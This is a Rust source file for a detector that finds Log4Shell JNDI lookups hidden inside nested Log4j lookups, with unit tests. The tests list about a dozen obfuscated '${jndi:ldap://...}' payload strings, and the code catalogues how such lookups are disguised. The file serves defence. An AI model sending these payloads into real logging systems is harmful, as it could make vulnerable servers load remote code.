//! Log4j lookups: `${jndi:..}` however deeply it is hidden in other lookups.
//!
//! Nested lookups are folded from the inside out as Log4j 2 did before 2.17: `${lower:X}` and `${upper:X}` are `X`,
//! and a lookup that fails is its default, `${env:NOPE:-X}` or `${::-X}`. Sources: CVE-2021-44228, CVE-2021-45046,
//! Log4j 2 manual, "Lookups".

use std::ops::Range;

/// Deepest nesting that is folded. Log4j gives up on recursion too.
const MAX_DEPTH: usize = 32;

/// Longest folded text kept, in bytes.
const MAX_BYTES: usize = 2048;

/// Memory reused between values.
#[derive(Debug, Default)]
pub(super) struct Scratch {
    text: Vec<u8>,
    starts: Vec<(usize, usize)>,
}

/// Where a lookup of JNDI begins and where it is known to be one.
#[inline(never)]
pub(super) fn find(value: &[u8], scratch: &mut Scratch) -> Option<Range<usize>> {
    let first = memchr::memmem::find(value, b"${")?;
    let Scratch { text, starts } = scratch;
    text.clear();
    starts.clear();
    let mut at = first;
    while let Some(&b) = value.get(at) {
        if value.get(at..at + 2) == Some(b"${") && starts.len() < MAX_DEPTH {
            starts.push((text.len(), at));
            at += 2;
            continue;
        }
        at += 1;
        match starts.last() {
            Some(&(start, begin)) if b == b'}' => {
                if is_jndi(text.get(start..).unwrap_or_default()) {
                    return Some(begin..at);
                }
                starts.pop();
                fold(text, start);
            }
            Some(_) if text.len() < MAX_BYTES => text.push(b),
            _ => {}
        }
    }
    // A lookup cut off by the end of the value may go on in what the application appends.
    let open = starts
        .iter()
        .find(|(start, _)| is_jndi(text.get(*start..).unwrap_or_default()));
    open.map(|(_, begin)| *begin..value.len())
}

/// Replaces the lookup whose body begins at `start` by what it evaluates to.
fn fold(text: &mut Vec<u8>, start: usize) {
    let body = text.get(start..).unwrap_or_default();
    let cut = if let Some(dash) = memchr::memmem::find(body, b":-") {
        dash + 2
    } else {
        const NAMES: &[&[u8]] = &[b"lower:", b"upper:", b"date:'", b"date:"];
        let known = NAMES
            .iter()
            .find(|name| body.get(..name.len()).is_some_and(|b| b.eq_ignore_ascii_case(name)));
        known.map_or(0, |name| name.len())
    };
    text.drain(start..start + cut);
    // The dotless i has `I` as its upper case.
    if cut > 0 && text.ends_with("\u{131}".as_bytes()) {
        text.truncate(text.len() - 2);
        text.push(b'i');
    }
    if text.last() == Some(&b'\'') {
        text.pop();
    }
}

/// `jndi:` and something to look up, without case, or the same in Log4j's own base64.
fn is_jndi(body: &[u8]) -> bool {
    let starts = |name: &[u8]| {
        body.get(..name.len())
            .is_some_and(|front| front.eq_ignore_ascii_case(name))
    };
    (starts(b"jndi:")
        && body
            .get(5)
            .is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'$' | b'%')))
        || body.starts_with(b"base64:am5kaTp")
        || body.starts_with(b"base64:JHtqbmRp")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(value: &str) -> bool {
        find(value.as_bytes(), &mut Scratch::default()).is_some()
    }

    #[test]
    fn lookups_fold_from_the_inside() {
        for value in [
            "${jndi:ldap://x/a}",
            "x ${JNDI:RMI://x/a} y",
            "${${lower:j}${upper:n}di:${lower:l}dap://x}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://x}",
            "${${env:A:-j}ndi${sys:b:-:}dns://x}",
            "${${lower:${lower:jndi}}:ldap://x}",
            "${a${x}${jndi:ldap://x/a",
            "${${date:'j'}${date:'n'}di:ldaps://x",
            "${jnd${upper:\u{131}}:ldap://x}",
            "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://x}",
            "${base64:am5kaTpsZGFwOi8veA==}",
        ] {
            assert!(found(value), "{value}");
        }
        for value in [
            "${name}",
            "$(jndi:ldap://x)",
            "${jndi}",
            "the jndi:ldap lookup",
            "${lower:jndi:ldap}",
            "${${${",
        ] {
            assert!(!found(value), "{value}");
        }
    }

    #[test]
    fn deep_nesting_ends() {
        assert!(!found(&"${".repeat(5000)));
        assert!(!found(&("${".repeat(5000) + &"}".repeat(5000))));
    }
}
